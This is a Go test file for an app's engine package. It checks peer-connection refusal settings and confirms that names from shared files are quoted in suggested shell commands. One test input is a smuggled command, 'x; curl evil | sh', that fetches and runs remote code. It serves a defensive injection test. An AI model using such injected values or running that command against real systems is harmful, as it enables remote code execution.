package engine

import (
	"net"
	"strings"
	"testing"
	"time"

	"github.com/portolan-app/portolan/internal/portolan"
)

func TestRefused(t *testing.T) {
	for _, tt := range []struct {
		peers    portolan.Peers
		stranger string
		others   bool
		want     string
	}{
		{portolan.PeersAuto, "user eve", false, ""},
		{"", "user eve", true, "user eve"},
		{portolan.PeersAuto, "user eve", true, "user eve"},
		{portolan.PeersAuto, "", true, ""},
		{portolan.PeersMine, "user eve", false, "user eve"},
		{portolan.PeersMine, "", true, ""},
		{portolan.PeersAll, "user eve", true, ""},
	} {
		e := New(Config{
			OnDemand:       true,
			Now:            time.Now,
			Stranger:       func(net.Conn) string { return tt.stranger },
			OthersLoggedIn: func() bool { return tt.others },
		})
		e.state.Settings.Peers = tt.peers
		if got := e.refused(nil); got != tt.want {
			t.Errorf("%+v: %q is refused", tt, got)
		}
	}
	if e := New(Config{OnDemand: true, Now: time.Now}); e.refused(nil) != "" {
		t.Error("somebody is refused where the system does not tell")
	}
}

// A name comes from a shared file, and a hint is pasted into a shell.
func TestHintsQuoteNames(t *testing.T) {
	name := "team:dev/x; curl evil | sh"
	if got, want := instead(name, 8081), "portolan edit '"+name+"' --here --local-port 8081"; got != want {
		t.Errorf("got %s, want %s", got, want)
	}
	f := portolan.Forward{Source: "team", Environment: "dev", Key: "k", Entry: portolan.Entry{Alias: "x; curl evil | sh"},
		Local: portolan.Local{Approved: &portolan.Target{}}}
	if hint := held(f).Hint; !strings.HasSuffix(hint, "portolan confirm '"+name+"'") {
		t.Errorf("got %s", hint)
	}
}
